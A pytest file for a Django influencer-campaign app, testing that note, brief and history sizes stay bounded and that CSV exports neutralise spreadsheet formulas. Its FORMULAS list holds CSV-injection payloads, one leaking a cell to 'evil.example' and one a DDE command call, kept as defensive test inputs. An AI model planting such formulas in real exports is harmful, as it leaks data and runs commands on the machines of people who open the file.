"""Campaign input an attacker controls: sizes bounded on every path, exports inert in spreadsheets."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from campaigns import services
from campaigns.constants import (
    CAMPAIGN_BRIEF_MAX_LENGTH,
    SAVED_NOTE_MAX_LENGTH,
    SHORTLIST_HISTORY_MAX,
    SHORTLIST_NOTES_MAX_LENGTH,
    STAGE_NOTE_MAX_LENGTH,
)
from campaigns.models import Campaign, ShortlistEntry, Stage, StageChange
from common.errors import ApplicationError
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


def api_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_the_api_refuses_a_brief_past_its_limit(brand):
    api = api_for(brand)
    data = {"name": "x", "target_gender": "F", "target_body_size": "M"}
    too_long = api.post(
        "/api/v1/campaigns/",
        {**data, "brief": "가" * (CAMPAIGN_BRIEF_MAX_LENGTH + 1)},
        format="json",
    )
    assert too_long.status_code == 400 and "brief" in too_long.json()
    fits = api.post(
        "/api/v1/campaigns/", {**data, "brief": "가" * CAMPAIGN_BRIEF_MAX_LENGTH}, format="json"
    )
    assert fits.status_code == 201


def test_the_page_refuses_a_brief_past_its_limit(client, brand):
    client.force_login(brand)
    response = client.post(
        "/campaigns/",
        {
            "name": "x",
            "brief": "b" * (CAMPAIGN_BRIEF_MAX_LENGTH + 1),
            "target_gender": "F",
            "target_body_size": "M",
        },
    )
    assert response.status_code == 200
    assert response.context["form"].has_error("brief", "max_length")
    assert not Campaign.objects.exists()


def test_the_api_refuses_shortlist_and_stage_notes_past_their_limit(campaign, influencer, brand):
    api = api_for(brand)
    url = f"/api/v1/campaigns/{campaign.pk}/shortlist/"
    note = "n" * (STAGE_NOTE_MAX_LENGTH + 1)
    refused = api.post(url, {"influencer_id": influencer.pk, "notes": note}, format="json")
    assert refused.status_code == 400 and not ShortlistEntry.objects.exists()
    entry = api.post(url, {"influencer_id": influencer.pk}, format="json").json()
    stage = api.patch(f"{url}{entry['id']}/", {"stage": "contacted", "note": note}, format="json")
    assert stage.status_code == 400
    assert ShortlistEntry.objects.get().stage == Stage.CANDIDATE


def test_cycling_stages_cannot_grow_the_notes_without_bound(campaign, influencer, brand):
    """The attack of issue 16: 27 MB of notes on one entry by cycling dropped -> candidate."""
    api = api_for(brand)
    url = f"/api/v1/campaigns/{campaign.pk}/shortlist/"
    entry = api.post(url, {"influencer_id": influencer.pk}, format="json").json()
    note = "메" * STAGE_NOTE_MAX_LENGTH
    answers = []
    for n in range(12):
        stage = "dropped" if n % 2 == 0 else "candidate"
        answers.append(
            api.patch(f"{url}{entry['id']}/", {"stage": stage, "note": note}, format="json")
        )
    refused = [a for a in answers if a.status_code == 400]
    assert refused and refused[0].json()["code"] == "notes_full"
    stored = ShortlistEntry.objects.get()
    assert len(stored.notes) <= SHORTLIST_NOTES_MAX_LENGTH
    # Without notes, the history itself stops at its limit.
    for _ in range(SHORTLIST_HISTORY_MAX + 5):
        stage = "candidate" if stored.stage == Stage.DROPPED else "dropped"
        response = api.patch(f"{url}{entry['id']}/", {"stage": stage}, format="json")
        stored.refresh_from_db()
        if response.status_code == 400:
            assert response.json()["code"] == "too_many_stage_changes"
            break
    assert StageChange.objects.filter(entry=stored).count() == SHORTLIST_HISTORY_MAX


def test_a_note_past_the_limit_is_refused_by_the_service_whoever_calls_it(
    campaign, influencer, brand
):
    entry = services.shortlist_add(campaign=campaign, influencer_id=influencer.pk, user=brand)
    with pytest.raises(ApplicationError) as info:
        services.shortlist_stage_change(
            entry=entry, stage=Stage.CONTACTED, user=brand, note="x" * (STAGE_NOTE_MAX_LENGTH + 1)
        )
    assert info.value.code == "note_too_long"


def test_a_note_alone_has_the_same_limits_as_a_note_with_a_stage_change(
    campaign, influencer, brand
):
    """shortlist_note_add checks what shortlist_stage_change checks: the note, the notes all
    together and the history (docs/limits.md), so no caller can go past them."""
    entry = services.shortlist_add(campaign=campaign, influencer_id=influencer.pk, user=brand)
    with pytest.raises(ApplicationError) as info:
        services.shortlist_note_add(entry=entry, user=brand, note="x" * (STAGE_NOTE_MAX_LENGTH + 1))
    assert info.value.code == "note_too_long"
    note = "메" * STAGE_NOTE_MAX_LENGTH
    codes = []
    for _ in range(SHORTLIST_NOTES_MAX_LENGTH // STAGE_NOTE_MAX_LENGTH + 1):
        try:
            services.shortlist_note_add(entry=entry, user=brand, note=note)
        except ApplicationError as exc:
            codes.append(exc.code)
    # n notes take n * 2,000 characters and n - 1 line breaks.
    fits = (SHORTLIST_NOTES_MAX_LENGTH + 1) // (STAGE_NOTE_MAX_LENGTH + 1)
    assert codes and set(codes) == {"notes_full"}
    entry.refresh_from_db()
    assert len(entry.notes) <= SHORTLIST_NOTES_MAX_LENGTH
    assert entry.history.count() == 1 + fits


def test_notes_alone_cannot_grow_the_history_past_its_limit(campaign, influencer, brand):
    entry = services.shortlist_add(campaign=campaign, influencer_id=influencer.pk, user=brand)
    StageChange.objects.bulk_create(
        StageChange(entry=entry, from_stage=entry.stage, to_stage=entry.stage, changed_by=brand)
        for _ in range(SHORTLIST_HISTORY_MAX - 1)
    )
    with pytest.raises(ApplicationError) as info:
        services.shortlist_note_add(entry=entry, user=brand, note="하나 더")
    assert info.value.code == "too_many_stage_changes"
    assert entry.history.count() == SHORTLIST_HISTORY_MAX


def test_the_page_and_the_api_refuse_a_note_alone_once_the_notes_are_full(
    client, campaign, influencer, brand
):
    entry = services.shortlist_add(campaign=campaign, influencer_id=influencer.pk, user=brand)
    ShortlistEntry.objects.filter(pk=entry.pk).update(notes="가" * (SHORTLIST_NOTES_MAX_LENGTH - 5))
    url = f"/api/v1/campaigns/{campaign.pk}/shortlist/{entry.pk}/"
    refused = api_for(brand).patch(url, {"note": "여섯 글자다"}, format="json")
    assert refused.status_code == 400 and refused.json()["code"] == "notes_full"
    client.force_login(brand)
    page = client.post(
        f"/campaigns/{campaign.pk}/shortlist/{entry.pk}/stage/",
        {f"entry-{entry.pk}-stage": "", f"entry-{entry.pk}-note": "여섯 글자다"},
    )
    assert page.status_code == 400
    assert "여섯 글자다" in page.content.decode()  # what was typed comes back
    entry.refresh_from_db()
    assert len(entry.notes) == SHORTLIST_NOTES_MAX_LENGTH - 5
    assert entry.history.count() == 1


def test_the_saved_note_is_bounded_in_the_api(consumer, influencer):
    response = api_for(consumer).post(
        "/api/v1/saved/",
        {"influencer_id": influencer.pk, "note": "s" * (SAVED_NOTE_MAX_LENGTH + 1)},
        format="json",
    )
    assert response.status_code == 400


def test_admin_refuses_notes_and_briefs_past_their_limit(client, campaign, influencer, brand):
    entry = services.shortlist_add(campaign=campaign, influencer_id=influencer.pk, user=brand)
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.post(
        f"/admin/campaigns/shortlistentry/{entry.pk}/change/",
        {
            "campaign": campaign.pk,
            "influencer": influencer.pk,
            "handle": entry.handle,
            "stage": entry.stage,
            "notes": "a" * (SHORTLIST_NOTES_MAX_LENGTH + 1),
            "history-TOTAL_FORMS": "0",
            "history-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.has_error("notes", "max_length")
    entry.refresh_from_db()
    assert entry.notes == ""


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def export_header(column: str) -> str:
    """The export's header of a column in the active language (Korean here)."""
    return str(dict(services.EXPORT_COLUMNS)[column])


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_csv_export_neutralises_formulas(client, campaign, influencer, brand, formula):
    entry = services.shortlist_add(
        campaign=campaign, influencer_id=influencer.pk, user=brand, notes=formula
    )
    assert entry.notes == formula  # stored as typed; only the export neutralises it
    client.force_login(brand)
    for url in (
        f"/campaigns/{campaign.pk}/shortlist.csv",
        f"/api/v1/campaigns/{campaign.pk}/shortlist.csv",
    ):
        body = client.get(url).content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(body)))
        assert rows[0][export_header("notes")] == "'" + formula
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_csv_export_leaves_plain_notes_and_numbers_alone(campaign, influencer, brand):
    services.shortlist_add(
        campaign=campaign, influencer_id=influencer.pk, user=brand, notes="연락 완료, 3월 협찬"
    )
    rows = list(
        csv.DictReader(
            io.StringIO(services.shortlist_export_csv(campaign=campaign).decode("utf-8-sig"))
        )
    )
    assert rows[0][export_header("notes")] == "연락 완료, 3월 협찬"
